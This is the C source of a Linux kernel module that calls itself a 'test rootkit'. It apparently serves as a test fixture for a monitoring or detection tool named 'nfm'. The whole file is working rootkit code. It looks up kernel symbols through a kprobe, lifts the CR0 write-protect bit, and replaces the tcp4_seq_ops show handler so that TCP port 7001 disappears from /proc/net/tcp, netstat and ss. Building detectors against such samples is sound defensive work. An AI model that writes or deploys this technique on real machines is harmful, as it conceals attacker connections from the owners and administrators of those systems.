// Test rootkit: hides TCP port 7001 from /proc/net/tcp (netstat, ss -without
// netlink) by pointing tcp4_seq_ops.show at its own filter, written into the
// kernel's read-only data with CR0.WP lifted.
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <net/sock.h>

static struct seq_operations* ops;
static int (*original_show)(struct seq_file*, void*);

static int hooked_show(struct seq_file* seq, void* v) {
  if (v != SEQ_START_TOKEN && ((struct sock*)v)->sk_num == 7001) return 0;
  return original_show(seq, v);
}

static inline void cr0_write(unsigned long value) {
  asm volatile("mov %0, %%cr0" : "+r"(value) : : "memory");
}

static void set_show(int (*show)(struct seq_file*, void*)) {
  unsigned long cr0 = read_cr0();
  cr0_write(cr0 & ~X86_CR0_WP);
  ops->show = show;
  cr0_write(cr0);
}

static int __init hook_init(void) {
  struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
  unsigned long (*lookup)(const char*);
  if (register_kprobe(&kp) < 0) return -ENOENT;
  lookup = (void*)kp.addr;
  unregister_kprobe(&kp);
  ops = (struct seq_operations*)lookup("tcp4_seq_ops");
  if (!ops) return -ENOENT;
  original_show = ops->show;
  set_show(hooked_show);
  pr_info("nfm_rk_hook_proc: tcp4_seq_ops.show hooked\n");
  return 0;
}

static void __exit hook_exit(void) {
  set_show(original_show);
}

module_init(hook_init);
module_exit(hook_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: /proc/net/tcp seq_operations hook");
